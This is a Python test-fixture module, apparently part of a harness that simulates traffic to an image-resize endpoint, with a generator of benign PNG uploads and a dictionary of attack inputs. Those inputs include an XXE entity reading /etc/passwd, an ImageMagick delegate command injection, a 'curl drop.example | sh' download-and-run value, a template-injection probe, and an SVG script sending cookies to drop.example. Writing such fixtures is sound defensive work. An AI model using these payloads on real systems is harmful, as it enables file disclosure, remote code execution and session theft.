# SPDX-License-Identifier: Apache-2.0
"""Pictures that clients post to image-resize, and what attackers do."""

import struct
import zlib

RUNTIME = "node"
HANDLER = "index.handler"


def _chunk(name, data):
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def _png(traffic, comment=None):
    """Grey, colour or with transparency; a gradient with some noise."""
    width, height = 1 + traffic.rank(120), 1 + traffic.rank(90)
    kind, channels = traffic.choice([(0, 1), (2, 3), (6, 4)])
    rows = b"".join(b"\0" + bytes((x + y * 3 + traffic.getrandbits(4)) & 255 for x in range(width * channels)) for y in range(height))
    text = _chunk(b"tEXt", b"Comment\0" + comment.encode("latin-1", "replace")) if comment else b""
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, kind, 0, 0, 0)) + text +
            _chunk(b"IDAT", zlib.compress(rows)) + _chunk(b"IEND", b""))


def _post(traffic, data, query):
    return traffic.http_bytes("POST", "/resize", data, "image/png", query)


def benign(traffic):
    query = {"width": str(traffic.choice([32, 64, 100, 150, 200, traffic.randint(1, 400)]))}
    if traffic.happens(0.6):
        query["format"] = traffic.choice(["png", "jpeg", "webp"])
    if traffic.happens(0.01):
        query["format"] = "tiff"
    data = _png(traffic, traffic.sentence() if traffic.happens(0.2) else None)
    if traffic.happens(0.02):
        data = data[:len(data) // 2]
    if traffic.happens(0.005):
        data = traffic.text(1, 3).encode()
    return _post(traffic, data, query)


def _svg(body):
    return lambda traffic: _post(traffic, f'<?xml version="1.0"?>{body}'.encode(), {"width": "100"})


INPUTS = {
    "entity": _svg('<!DOCTYPE s [<!ENTITY f SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&f;</text></svg>'),
    "delegate": lambda traffic: _post(traffic, b"push graphic-context\nfill 'url(https://drop.example/a.jpg\"|id > /tmp/out\")'\npop graphic-context\n", None),
    "format": lambda traffic: _post(traffic, _png(traffic), {"format": "png; curl drop.example | sh"}),
    "width": lambda traffic: _post(traffic, _png(traffic), {"width": "${7*7}"}),
    "script": _svg('<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'//drop.example/\'+document.cookie)"/>'),
}
